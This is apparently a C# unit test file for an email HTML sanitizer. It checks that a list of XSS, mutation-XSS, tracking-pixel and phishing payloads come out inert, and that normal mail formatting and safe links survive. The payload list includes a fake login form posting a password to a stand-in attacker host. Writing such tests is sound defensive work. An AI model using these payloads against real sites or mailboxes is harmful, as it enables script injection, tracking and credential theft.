using Omnichannel.Channels.Email.Inbound;

namespace Omnichannel.Channels.Tests.Email;

public class EmailHtmlSanitizerTests
{
    /// <summary>Classic XSS and mail-specific payloads (OWASP cheat sheet, mutation XSS, tracking and phishing tricks).</summary>
    internal static readonly string[] Payloads =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://ok.example/a.png\" onload=\"alert(1)\">",
        "<svg onload=alert(1)><circle r=1></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
        "<a href=\" JaVaScRiPt:alert(1)\">click</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">click</a>",
        "<a href=\"vbscript:msgbox(1)\">click</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"><button>Log in</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<body onload=alert(1)>text</body>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"background-image:url(https://tracker.example/p.gif)\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">Your session expired</div>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:/\"><a href=\"x\">x</a>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<style>@import 'https://evil.example/x.css'; body{background:red}</style>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"http://tracker.example/pixel.gif\">",
        "<img src=\"/relative/to/the/agent/app\">",
        "<div id=\"app\" name=\"getElementById\" class=\"modal\">clobber</div>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">hover</a>",
        "<isindex action=\"javascript:alert(1)\" type=\"image\">",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    ];

    public static TheoryData<string> HostilePayloads => new(Payloads);

    [Theory]
    [MemberData(nameof(HostilePayloads))]
    public void Hostile_HTML_comes_out_inert(string payload)
    {
        var html = EmailHtmlSanitizer.Sanitize($"<p>Hello</p>{payload}<p>Bye</p>");

        HtmlInertness.AssertInert(html);
        Assert.Contains("Hello", html);
    }

    [Fact]
    public void Ordinary_mail_formatting_survives()
    {
        var html = EmailHtmlSanitizer.Sanitize(
            "<p style=\"color: red; font-weight: bold\">Hi</p><table border=\"1\"><tr><td>a</td></tr></table>"
            + "<ul><li>one</li></ul><blockquote>q</blockquote><img src=\"cid:logo@x\" alt=\"Logo\" width=\"20\">"
            + "<img src=\"https://cdn.example/a.png\">");

        Assert.Contains("<p style=\"color: rgba(255, 0, 0, 1); font-weight: bold\">Hi</p>", html);
        Assert.Contains("<td>a</td>", html);
        Assert.Contains("<li>one</li>", html);
        Assert.Contains("<blockquote>q</blockquote>", html);
        Assert.Contains("<img src=\"cid:logo@x\" alt=\"Logo\" width=\"20\">", html);
        Assert.Contains("<img src=\"https://cdn.example/a.png\">", html);
    }

    [Fact]
    public void Links_open_in_a_new_tab_without_referrer()
    {
        var html = EmailHtmlSanitizer.Sanitize("<a href=\"https://shop.example/order/1\" target=\"_self\">order</a> <a href=\"mailto:ana@example.com\">mail</a>");

        Assert.Equal(
            "<a href=\"https://shop.example/order/1\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">order</a> "
            + "<a href=\"mailto:ana@example.com\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">mail</a>",
            html);
    }

    [Fact]
    public async Task A_hostile_HTML_mail_maps_to_inert_HTML_and_readable_text()
    {
        var payloads = string.Concat(Payloads);
        var mapped = await Mail.MapAsync($"""
            From: Mallory <mallory@evil.example>
            To: support@company.example
            Subject: Invoice
            Message-ID: <xss-1@evil.example>
            Content-Type: text/html; charset=utf-8

            <html><head><script>alert(1)</script></head><body onload="alert(1)"><p>Please pay the invoice.</p>{payloads}</body></html>
            """);

        HtmlInertness.AssertInert(mapped.Message.Html);
        Assert.StartsWith("Please pay the invoice.", mapped.Message.Text);
        Assert.DoesNotContain("alert(1)</script>", mapped.Message.Text);
    }
}
